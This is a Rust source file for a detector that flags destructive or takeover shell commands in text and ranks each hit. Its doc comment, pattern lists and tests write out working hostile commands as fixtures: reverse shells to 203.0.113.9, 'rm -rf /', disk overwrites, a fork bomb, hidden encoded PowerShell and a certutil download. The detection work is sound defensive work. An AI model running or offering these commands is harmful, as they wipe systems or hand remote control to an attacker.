//! Commands that destroy a machine or hand it over.
//!
//! **Finds** (`code.command`): `rm -rf` of the root, the home folder or everything (rank 40), disks that are overwritten or formatted (40),
//! fork bombs (50), reverse shells (50), encoded or downloaded PowerShell (40), system tools that fetch and run (30),
//! `chmod 777` of the root (30); at rank 10, since every manual has it: a download piped into a shell.
//!
//! **Does not find** commands put together from variables or pieces, commands of other shells, or harm that is done with the right
//! arguments of harmless commands.
//!
//! **Example**: `bash -i >& /dev/tcp/203.0.113.9/4444 0>&1`

use crate::detectors::Hit;
use crate::detectors::constructs::{begins_with_word, line};
use crate::text::Text;
use crate::{DetectorCard, Reach};

/// As much of a line is read.
const LINE_BYTES_MAX: usize = 300;
const KIND: &str = "code.command";

pub(crate) const CARD: DetectorCard = DetectorCard {
    name: "shell_command",
    kinds: &[KIND],
    reach: Reach::Held(LINE_BYTES_MAX + 1),
    summary: "Commands that destroy a machine or hand it over.",
};

/// The words that commands begin with, what must follow them, and how the rest is judged.
type Judge = fn(&str) -> u8;
type Command = (&'static [&'static str], &'static [u8], &'static [u8], Judge);
const COMMANDS: &[Command] = &[
    (&["rm"], b" ", b"-/~*", remove),
    (&["dd"], b" ", b"io", overwrite),
    (&["mkfs"], b". ", b"", format_disk),
    (&["shred", "wipefs"], b" ", b"-/", format_disk),
    (&["chmod"], b" ", b"-07a", open_all),
    (&["bash", "sh", "zsh"], b" ", b"-", shell),
    (&["nc", "ncat", "netcat", "socat"], b" ", b"-0123456789tTeE", listener),
    (&["python", "python3", "perl", "ruby", "php"], b" ", b"-", interpreter),
    (&["curl", "wget"], b" ", b"-hfHF\"'", fetch),
    (&["powershell", "powershell.exe", "pwsh", "iex", "invoke"], b" (-", b"", powershell),
    (&["certutil", "mshta", "regsvr32", "rundll32", "bitsadmin"], b" .", b"", system_tool),
    (&["vssadmin", "wbadmin"], b" ", b"d", |_| 40),
];

pub(crate) fn find(text: &Text<'_>) -> Option<Hit> {
    if text.get(0)? == b':' {
        return fork_bomb(text);
    }
    if text.get(0)? == b'>' {
        return device(text);
    }
    let (words, _, next, judge) =
        COMMANDS.iter().find(|(words, after, ..)| begins_with_word(text, words, after))?;
    let longest = words.iter().map(|word| word.len()).max().unwrap_or_default();
    let space = (2..=longest).find(|at| text.get(*at).is_some_and(|byte| byte == b' '));
    if let (Some(space), false) = (space, next.is_empty())
        && !text.get(space + 1).is_some_and(|byte| next.contains(&byte))
    {
        return None;
    }
    let line = line(text, LINE_BYTES_MAX);
    let rank = judge(&line);
    // The bytes are those of the text: lower case changes no length, and what is no character stays out.
    let len = line.trim_end().len();
    (rank > 0).then(|| Hit::new(&CARD, KIND, len, rank))
}

fn fork_bomb(text: &Text<'_>) -> Option<Hit> {
    let spaced = |byte| byte == b' ';
    if text.get(1)? != b'(' || text.get(2)? != b')' {
        return None;
    }
    let brace = 3 + text.run_within(3, 3, spaced);
    if text.get(brace)? != b'{' {
        return None;
    }
    let line = line(text, LINE_BYTES_MAX);
    let bare: String = line.chars().filter(|letter| !letter.is_whitespace()).collect();
    bare.starts_with(":(){:|:&};:").then(|| Hit::new(&CARD, KIND, line.trim_end().len(), 50))
}

/// `> /dev/sda`
fn device(text: &Text<'_>) -> Option<Hit> {
    let space = text.run_within(1, 2, |byte| byte == b' ' || byte == b'>');
    let disks: [&[u8]; 4] = [b"/dev/sd", b"/dev/nvme", b"/dev/hd", b"/dev/vd"];
    let disk = disks.iter().find(|disk| text.has_at(1 + space, disk))?;
    let name = 1 + space + disk.len();
    let rest = text.run_within(name, 8, |byte| byte.is_ascii_alphanumeric());
    Some(Hit::new(&CARD, KIND, name + rest, 40))
}

fn remove(line: &str) -> u8 {
    let mut words = line.split_whitespace().skip(1).peekable();
    let (mut recursive, mut forced) = (false, false);
    while let Some(word) = words.next_if(|word| word.starts_with('-')) {
        recursive |= word == "--recursive" || (!word.starts_with("--") && word.contains('r'));
        forced |= word == "--force" || (!word.starts_with("--") && word.contains('f'));
        if word == "--no-preserve-root" {
            return 40;
        }
    }
    let is_everything = |word: &str| {
        let word = word.trim_end_matches([';', '"', '\'', '`', ')']);
        matches!(word, "/" | "/*" | "~" | "~/" | "~/*" | "$home" | "$home/*" | "*" | ".*")
            || (word.starts_with('/')
                && matches!(
                    word.trim_end_matches('*').trim_matches('/'),
                    "etc"
                        | "usr"
                        | "var"
                        | "boot"
                        | "home"
                        | "bin"
                        | "lib"
                        | "root"
                        | "dev"
                        | "sys"
                ))
    };
    if recursive && words.clone().any(|word| word == "--no-preserve-root") {
        return 40;
    }
    match words.find(|word| is_everything(word)) {
        Some("*" | ".*") if recursive && forced => 20,
        Some(_) if recursive => 40,
        _ => 0,
    }
}

fn overwrite(line: &str) -> u8 {
    let target = ["of=/dev/sd", "of=/dev/nvme", "of=/dev/hd", "of=/dev/vd", "of=/dev/disk"];
    let wipes = ["if=/dev/zero", "if=/dev/random", "if=/dev/urandom"];
    match (
        target.iter().any(|part| line.contains(part)),
        wipes.iter().any(|part| line.contains(part)),
    ) {
        (true, true) => 40,
        // How installation media are written.
        (true, false) => 10,
        _ => 0,
    }
}

fn format_disk(line: &str) -> u8 {
    if ["/dev/sd", "/dev/nvme", "/dev/hd", "/dev/vd"].iter().any(|disk| line.contains(disk)) {
        20
    } else {
        0
    }
}

fn open_all(line: &str) -> u8 {
    let words: Vec<&str> = line.split_whitespace().collect();
    let is_open = words.iter().any(|word| matches!(*word, "777" | "0777" | "a+rwx"));
    if is_open && words.last().is_some_and(|last| matches!(*last, "/" | "/*" | "/etc" | "/etc/")) {
        30
    } else {
        0
    }
}

fn shell(line: &str) -> u8 {
    if line.contains("/dev/tcp/") || line.contains("/dev/udp/") { 50 } else { 0 }
}

fn listener(line: &str) -> u8 {
    let runs = [" -e /bin", " -c /bin", "-e cmd", "-e /usr/bin", " -e sh", "exec:", "--exec"];
    if runs.iter().any(|part| line.contains(part)) { 50 } else { 0 }
}

fn interpreter(line: &str) -> u8 {
    let connects =
        line.contains("socket") && (line.contains("connect") || line.contains("tcpsocket"));
    let runs = ["dup2", "exec", "subprocess", "pty.spawn", "/bin/sh", "/bin/bash"];
    if (connects || line.contains("fsockopen")) && runs.iter().any(|part| line.contains(part)) {
        50
    } else {
        0
    }
}

fn fetch(line: &str) -> u8 {
    let Some((_, piped)) = line.split_once('|') else { return 0 };
    let is_shell = |part: &str| {
        let mut words = part
            .split_whitespace()
            .skip_while(|word| *word == "sudo" || word.starts_with('-') || word.contains('='));
        words.next().is_some_and(|word| {
            matches!(
                word.rsplit('/').next(),
                Some("sh" | "bash" | "zsh" | "python" | "python3" | "perl" | "sh`")
            )
        })
    };
    let is_decoded = piped.contains("base64 -d") || piped.contains("base64 --decode");
    match (piped.split('|').any(is_shell), is_decoded || line.contains("-k ")) {
        (true, true) => 30,
        (true, false) => 10,
        _ => 0,
    }
}

fn powershell(line: &str) -> u8 {
    let has = |parts: &[&str]| parts.iter().any(|part| line.contains(part));
    let fetches = has(&[
        "downloadstring",
        "downloadfile",
        "invoke-webrequest",
        "iwr ",
        "irm ",
        "net.webclient",
    ]);
    let runs = has(&["iex", "invoke-expression", "| iex", "start-process"]);
    let hides =
        has(&["-w hidden", "-windowstyle hidden", "-nop", "-ep bypass", "-executionpolicy bypass"]);
    let is_encoded = has(&["-enc ", "-encodedcommand", " -e ", "frombase64string"]);
    match (is_encoded, fetches && runs, hides) {
        (true, _, _) | (_, true, true) => 40,
        (_, true, _) => 20,
        _ => 0,
    }
}

fn system_tool(line: &str) -> u8 {
    let fetches = line.contains("http:") || line.contains("https:");
    let decodes = line.starts_with("certutil") && line.contains("-decode");
    if fetches || decodes || line.contains("javascript:") { 30 } else { 0 }
}

#[cfg(test)]
mod tests {
    use crate::detectors::constructs::tests::check;

    #[track_caller]
    fn found(command: &str, rank: u8) {
        check(&format!("run\n{command}\nnow"), &[(command, "code.command", rank)]);
    }

    #[test]
    fn destructive_commands_are_found() {
        found("rm -rf /", 40);
        found("rm -r --no-preserve-root /", 40);
        found("rm -fr ~/*", 40);
        found("dd if=/dev/zero of=/dev/sda bs=1M", 40);
        found(":(){ :|:& };:", 50);
        found("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", 50);
        found("nc -e /bin/sh 203.0.113.9 4444", 50);
        found(
            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
            50,
        );
        found("powershell -nop -w hidden -enc SQBFAFgA", 40);
        found("certutil -urlcache -f http://e.example/a.txt a.exe", 30);
        check("echo x > /dev/sda", &[("> /dev/sda", "code.command", 40)]);
    }

    #[test]
    fn ordinary_commands_are_not() {
        check("rm -rf build/ node_modules\nrm -r /tmp/x\nrm file", &[]);
        check(
            "python -c 'print(1)'\ncurl -s https://example.com | jq .\nnc -z host 22\nbash -c 'ls'\n",
            &[],
        );
        check("Python is a language, and the nc of a net is not.", &[]);
        check(
            "curl -sSf https://sh.example.com | sh\n",
            &[("curl -sSf https://sh.example.com | sh", "code.command", 10)],
        );
    }

    #[test]
    fn a_line_is_read_up_to_its_limit() {
        let spaces = " ".repeat(super::LINE_BYTES_MAX);
        check(&format!("rm -rf{spaces}/\n"), &[]);
    }
}
